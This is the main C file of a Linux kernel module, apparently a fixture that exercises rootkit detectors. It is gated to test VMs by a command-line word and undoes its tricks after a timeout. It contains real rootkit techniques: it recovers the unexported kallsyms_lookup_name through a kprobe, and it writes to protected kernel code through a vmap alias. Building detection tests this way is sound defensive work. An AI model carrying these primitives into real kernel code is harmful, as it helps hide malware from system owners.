// SPDX-License-Identifier: GPL-2.0
/*
 * test-rootkit: what hides in a kernel, for the tests of what looks for it.
 *
 *   insmod test-rootkit.ko TRICK=VALUE... [seconds=N]
 *
 * A fixture, and of no other use: it talks to nobody, gives nothing to anyone, and
 * refuses to load unless the kernel's command line has the word umbra.test-rootkit,
 * which only the disposable VMs of the testbed are started with. Each trick is one
 * that is described in the literature and is harmless to the VM; after so many
 * seconds (0 is never) all are undone. The tricks are in objects.c (things taken
 * out of lists), hooks.c (by the kernel's own means) and patches.c (by writing to
 * code and tables). The kernel log tells of each one that was done.
 */
#define pr_fmt(format) "test-rootkit: " format

#include <linux/delay.h>
#include <linux/kprobes.h>
#include <linux/mm.h>
#include <linux/module.h>
#include <linux/slab.h>
#include <linux/string.h>
#include <linux/vmalloc.h>
#include <linux/workqueue.h>

#include "tricks.h"

#define PERMISSION "umbra.test-rootkit"

static unsigned int seconds;
module_param(seconds, uint, 0);
MODULE_PARM_DESC(seconds, "after which all is undone, 0 for never");

static unsigned long (*lookup_name)(const char *name);

static struct trick *const all_tricks[] = { object_tricks, hook_tricks, patch_tricks };

void *kernel_symbol(const char *name)
{
	return (void *)lookup_name(name);
}

/* The kernel's image is in one piece of memory, a module is not. */
static struct page *page_of(const void *address)
{
	unsigned long place = (unsigned long)address;

	if (place >= MODULES_VADDR && place < MODULES_END)
		return vmalloc_to_page(address);
	return pfn_to_page(PHYS_PFN(__pa_symbol(place)));
}

int write_kernel(void *address, const void *bytes, size_t length)
{
	struct page *pages[] = { page_of(address), page_of(address + length - 1) };
	void *writable = vmap(pages, ARRAY_SIZE(pages), VM_MAP, PAGE_KERNEL);

	if (!writable)
		return -ENOMEM;
	memcpy(writable + offset_in_page(address), bytes, length);
	vunmap(writable);
	return 0;
}

/* The kernel does not export its symbol table, but a probe can be set by name. */
static int find_symbol_table(void)
{
	struct kprobe probe = { .symbol_name = "kallsyms_lookup_name" };
	int error = register_kprobe(&probe);

	if (error)
		return error;
	lookup_name = (void *)probe.addr;
	unregister_kprobe(&probe);
	return 0;
}

static bool is_permitted(void)
{
	char **command_line = kernel_symbol("saved_command_line"), *copy, *rest, *word;
	bool permitted = false;

	if (!command_line)
		return false;
	copy = rest = kstrdup(*command_line, GFP_KERNEL);
	while (copy && (word = strsep(&rest, " ")))
		permitted |= !strcmp(word, PERMISSION);
	kfree(copy);
	return permitted;
}

static void undo_all(struct work_struct *work)
{
	struct trick *trick;
	int i;

	for (i = ARRAY_SIZE(all_tricks) - 1; i >= 0; i--) {
		for (trick = all_tricks[i]; trick->name; trick++) {
			if (!trick->done)
				continue;
			trick->done = false;
			trick->undo();
			pr_info("%s undone\n", trick->name);
		}
	}
}

static DECLARE_DELAYED_WORK(undo_work, undo_all);

static int __init rootkit_init(void)
{
	struct trick *trick;
	int i, error = find_symbol_table();

	if (error)
		return error;
	if (!is_permitted()) {
		pr_err("not permitted here\n");
		return -EPERM;
	}
	for (i = 0; i < ARRAY_SIZE(all_tricks); i++) {
		for (trick = all_tricks[i]; trick->name; trick++) {
			if (!*trick->parameter)
				continue;
			error = trick->do_it(*trick->parameter);
			if (error) {
				pr_err("%s: error %d\n", trick->name, error);
				undo_all(NULL);
				return error;
			}
			trick->done = true;
			pr_info("%s done\n", trick->name);
		}
	}
	if (seconds)
		schedule_delayed_work(&undo_work, seconds * HZ);
	return 0;
}

static void __exit rootkit_exit(void)
{
	cancel_delayed_work_sync(&undo_work);
	undo_all(NULL);
	/* Whoever is still on the way through the code leaves it. */
	msleep(100);
}

module_init(rootkit_init);
module_exit(rootkit_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("What hides in a kernel, for tests");
